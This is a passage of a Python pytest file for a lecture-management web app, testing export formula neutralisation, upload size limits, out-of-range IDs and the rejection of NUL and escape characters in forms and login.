    lecture.title = texts["title"]
    db.session.get(Question, scene["question"]).stem = texts["stem"]
    db.session.commit()
    attendance_services.set_status(lecture, member, scene["branch_a"], Status.ABSENT,
                                   texts["reason"], by=coordinator)
    leave = db.session.get(LeaveRequest, scene["leave"])
    if leave.state is LeaveState.PENDING:
        leave.reason = texts["leave_reason"]
        attendance_services.decide_leave(leave, approve=True, by=coordinator, note=texts["note"])
    else:
        db.session.execute(sa.update(AttendanceRecord).where(
            AttendanceRecord.user_id == other.id).values(reason=texts["leave_reason"]))
        db.session.commit()
    neutralised = set()
    for user, url in export_urls(scene):
        response = export_clients(user).get(url)
        assert response.status_code == 200, (url, response.status_code)
        neutralised.update(t for t in assert_no_formula(url, response.data) if t.startswith("'"))
    # The typed texts did reach the exports, neutralised (XLSX keeps a carriage return as a line feed).
    for key in ("name", "venue", "stem", "reason", "leave_reason"):
        assert any(t.replace("\n", "\r") == "'" + texts[key].replace("\n", "\r") for t in neutralised), key


# --- limits --------------------------------------------------------------------------------------------------------

def test_body_over_the_limit_gets_413_in_chinese(app, client, scene):
    signed_in(client, "admin")
    token = client.csrf_token(f"/admin/lectures/{scene['lecture']}/materials")
    before = snapshot()
    limit = app.config["MAX_CONTENT_LENGTH"]
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    try:
        response = client.post(f"/admin/lectures/{scene['lecture']}/materials/upload",
                               data={"csrf_token": token, "file": (io.BytesIO(b"%PDF-" + b"0" * 70000), "a.pdf")},
                               content_type="multipart/form-data")
    finally:
        app.config["MAX_CONTENT_LENGTH"] = limit
    assert response.status_code == 413
    assert "上传的文件过大。" in response.get_data(as_text=True)
    assert snapshot() == before


@pytest.mark.parametrize("url", ["/lectures/99999999999999999999", "/courses/2147483648",
                                 "/lectures/1/materials/99999999999999999999999",
                                 "/reports/hours/venues/9223372036854775808"])
def test_ids_beyond_any_row_are_not_found(client, org, url):
    signed_in(client, "admin")
    assert client.get(url).status_code == 404


def test_member_id_beyond_any_row_is_refused(client, scene):
    signed_in(client, "coord01")
    before = snapshot()
    response = client.submit(f"/roster/{scene['link']}/status",
                             {"member_id": "99999999999999999999", "status": "absent", "reason": ""},
                             token_from=f"/roster/{scene['link']}")
    refused(response, before)


def test_generated_lecture_start_is_near(scene):
    """The scene's lecture opens check-in now, so check-in and leave examples reach their services."""
    from lecturehub.courses.models import Lecture

    lecture = db.session.get(Lecture, scene["lecture"])
    assert utcnow() < lecture.starts_at < utcnow() + timedelta(minutes=10)
    assert db.session.get(Course, scene["course"]) is not None


# --- control characters in an otherwise valid form ------------------------------------------------------------
# Random forms rarely get every other field right, so each text field also gets NUL (which PostgreSQL
# cannot store) and an escape character on their own.

def control_cases(scene) -> list[tuple[str, str, str | None, dict, str]]:
    lecture, link = scene["lecture"], scene["link"]
    return [
        ("admin", "/admin/courses/new", None, {"title": "专题", "slug": "cx", "position": "0"}, "title"),
        ("admin", "/admin/courses/new", None, {"title": "专题", "slug": "cx", "position": "0",
                                               "description_md": "说明"}, "description_md"),
        ("admin", "/admin/lectures/new", None, lecture_fields(scene), "title"),
        ("admin", "/admin/lectures/new", None, lecture_fields(scene), "speaker"),
        ("admin", "/admin/lectures/new", None, lecture_fields(scene), "key_points_md"),
        ("admin", f"/admin/lectures/{lecture}/materials/link", f"/admin/lectures/{lecture}/materials",
         {"title": "录像", "url": "https://example.org/v"}, "title"),
        ("admin", f"/admin/lectures/{lecture}/quiz/new", None,
         {"kind": "truefalse", "stem": "对吗", "answer": "true", "explanation": "解析"}, "stem"),
        ("admin", f"/admin/lectures/{lecture}/quiz/new", None,
         {"kind": "single", "stem": "哪个", "options_text": "甲\n乙", "answer": "A", "explanation": "解析"},
         "options_text"),
        ("coord01", f"/desk/{link}", None, {"member": "m0001"}, "member"),
        ("coord01", f"/roster/{link}/status", f"/roster/{link}",
         {"member_id": str(scene["member_a"]), "status": "absent", "reason": "病假"}, "reason"),
        ("m0001", f"/lectures/{lecture}/leave", None, {"reason": "出差"}, "reason"),
    ]


@pytest.mark.parametrize("control", ["\x00", "\x1b"])
def test_control_characters_are_refused_with_a_message(client, scene, control):
    for user, url, token_from, fields, name in control_cases(scene):
        signed_in(client, user)
        data = dict(fields, **{name: fields[name][:1] + control + fields[name][1:]})
        before = snapshot()
        response = client.submit(url, data, token_from=token_from)
        refused(response, before)
        assert response.status_code == 422, (url, name)


@pytest.mark.parametrize("control", ["\x00", "\x1b"])
def test_control_characters_in_sign_in_and_filters(client, org, control):
    before = snapshot()
    refused(client.submit("/login", {"username": "m00" + control + "01", "password": PASSWORD}), before)
    signed_in(client, "admin")
    before = snapshot()  # signing in wrote a session and an audit entry
    refused(client.get("/admin/users", query_string={"q": "张" + control}), before)
